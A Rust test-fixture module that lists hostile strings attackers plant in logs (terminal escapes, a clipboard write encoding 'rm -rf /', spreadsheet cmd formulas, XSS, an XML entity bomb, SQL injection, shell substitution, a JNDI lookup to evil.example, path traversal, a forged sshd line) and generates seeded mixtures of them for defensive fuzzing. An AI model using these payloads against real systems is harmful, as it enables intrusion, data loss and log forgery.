//! Byte strings that attackers write into logs. Each must be stored as it is and harm nobody who reads it.

use crate::rng::Stream;

/// One hostile string and what it tries.
#[derive(Clone, Copy, Debug)]
pub struct Hostile {
    /// What it tries, as a name for messages.
    pub name: &'static str,
    /// The bytes.
    pub bytes: &'static [u8],
}

macro_rules! hostile {
    ($($name:literal: $bytes:expr,)*) => { &[$(Hostile { name: $name, bytes: $bytes },)*] };
}

/// The fixed ones.
pub const ALL: &[Hostile] = hostile! {
    "terminal: clear the screen": b"\x1b[2J\x1b[H",
    "terminal: set the window's title": b"\x1b]0;root@safe\x07",
    "terminal: hyperlink": b"\x1b]8;;https://evil.example\x1b\\click\x1b]8;;\x1b\\",
    "terminal: write the clipboard": b"\x1b]52;c;cm0gLXJmIC8=\x07",
    "terminal: eight-bit control sequence": b"\xc2\x9b31m",
    "terminal: carriage return hides what stood before": b"Failed password for root\rAccepted password for al",
    "terminal: backspaces": b"admin\x08\x08\x08\x08\x08guest",
    "terminal: device status request": b"\x1b[6n",
    "NUL inside": b"before\0after",
    "NUL only": b"\0\0\0\0",
    "bidi: right-to-left override": "user \u{202e}nimda\u{202c} ok".as_bytes(),
    "bidi: isolates": "\u{2067}abc\u{2069}".as_bytes(),
    "zero width inside a word": "ad\u{200b}min\u{feff}".as_bytes(),
    "Cyrillic look-alike": "\u{430}dmin r\u{43e}\u{43e}t".as_bytes(),
    "combining marks without end": "Z\u{300}\u{301}\u{302}\u{303}\u{304}\u{305}\u{306}\u{307}\u{308}\u{30a}".as_bytes(),
    "beyond the basic plane": "\u{1f4a3}\u{10ffff}".as_bytes(),
    "invalid UTF-8: lone continuation": b"abc\x80def",
    "invalid UTF-8: cut short": b"abc\xe2\x82",
    "invalid UTF-8: overlong slash": b"..\xc0\xaf..\xc0\xaf",
    "invalid UTF-8: surrogate": b"\xed\xa0\x80",
    "invalid UTF-8: beyond the end": b"\xf5\x80\x80\x80",
    "invalid UTF-8: bytes no text has": b"\xfe\xff\xfe",
    "Windows-1251 without notice": b"\xcf\xe0\xf0\xee\xeb\xfc \xed\xe5\xe2\xe5\xf0\xe5\xed",
    "UTF-16 without notice": b"a\0d\0m\0i\0n\0",
    "spreadsheet: formula": b"=cmd|' /C calc'!A0",
    "spreadsheet: formula by plus": b"+1+1|'x'!A1",
    "spreadsheet: formula by minus": b"-2+3+cmd|' /C calc'!A0",
    "spreadsheet: formula by at": b"@SUM(1+1)*cmd|' /C calc'!A0",
    "spreadsheet: formula after a tab": b"\t=HYPERLINK(\"https://evil.example\",\"x\")",
    "CSV: quote, comma and line ends": b"a\",\"b\r\n\"c",
    "HTML: script": b"<script>alert(1)</script>",
    "HTML: attribute": b"\" onmouseover=\"alert(1)",
    "HTML: entity": b"&lt;img src=x onerror=alert(1)&gt;",
    "XML: end of CDATA": b"]]><Event/>",
    "XML: entity bomb": b"<!DOCTYPE x [<!ENTITY a \"aa\"><!ENTITY b \"&a;&a;\">]><x>&b;</x>",
    "JSON: quote and backslash": b"\\\"},\"user\":\"root\",\"x\":\"\\u0000",
    "JSON: lone surrogate": b"\"\\ud800\"",
    "SQL": b"'; DROP TABLE events; --",
    "shell": b"$(reboot)`reboot`;reboot|reboot",
    "lookup in a logger": b"${jndi:ldap://evil.example/a}",
    "format directive": b"%s%n%x{}{0}",
    "path upwards": b"../../../../etc/passwd",
    "a second log line inside": b"x\nJan  1 00:00:00 srv-web sshd[1]: Accepted password for root from 192.0.2.1 port 22 ssh2",
    "line separator of Unicode": "x\u{2028}y\u{2029}z\u{85}".as_bytes(),
    "regular expression that takes for ever": b"(a+)+$ aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa!",
};

/// `count` random mixtures of the fixed ones, letters, and random bytes, the same for the same seed.
pub fn seeded(seed: u64, count: usize) -> Vec<Vec<u8>> {
    let mut r = Stream::new(seed, "hostile");
    let one = |r: &mut Stream| {
        let mut out = Vec::new();
        for _ in 0..1 + r.below(5) {
            match r.below(4) {
                0 | 1 => out.extend_from_slice(r.pick(ALL).bytes),
                2 => {
                    let start = out.len();
                    out.resize(start + r.index(24), 0);
                    r.fill(&mut out[start..]);
                }
                _ => out.extend_from_slice(r.hex(8).as_bytes()),
            }
        }
        out
    };
    (0..count).map(|_| one(&mut r)).collect()
}

#[cfg(test)]
mod tests {
    use super::{ALL, seeded};

    #[test]
    fn names_are_distinct_and_seeds_repeat() {
        for (k, one) in ALL.iter().enumerate() {
            assert!(
                ALL[..k].iter().all(|other| other.name != one.name),
                "{}",
                one.name
            );
        }
        assert_eq!(seeded(3, 50), seeded(3, 50));
        assert_ne!(seeded(3, 50), seeded(4, 50));
    }
}
